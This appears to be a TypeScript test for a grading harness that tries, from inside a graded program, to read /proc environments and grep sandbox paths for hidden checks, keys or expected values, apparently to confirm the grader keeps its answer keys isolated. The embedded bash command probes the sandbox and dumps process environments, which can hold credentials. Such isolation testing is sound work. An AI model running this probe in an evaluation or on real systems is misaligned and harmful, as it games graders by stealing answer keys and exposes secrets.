import { defineAttack } from '../attack.ts'

/** Stands in the checks and the harness, and in nothing a learner gets. */
const MARKS = ['drawNumbers', 'hiddenKey', 'paramsKey']

const main = `import { execFileSync } from 'node:child_process'
process.stdout.write(execFileSync('/bin/bash', ['-c', 'cat /proc/*/environ /proc/*/cmdline; for r in / /run /tmp /workspace /proc/1/root /proc/1/cwd; do grep -rIhs -m1 -e draw[N]umbers -e hidden[K]ey -e params[K]ey $r/checks $r/world $r/harness $r/run $r/tmp $r/home; done; exit 0'], { encoding: 'utf8' }).slice(0, 1500))`

export default defineAttack<string>({
  name: 'find checks, keys or expected values from inside a graded program',
  attempt: async (range) =>
    JSON.stringify((await range.grade({ 'main.ts': main })) satisfies object).split('"provenance"')[0] as string,
  succeeded: (result) => MARKS.some((mark) => result.includes(mark)),
  control: async (range) =>
    JSON.stringify(await range.grade({ 'main.ts': "console.log('drawNumbers')" })).split('"provenance"')[0] as string,
})
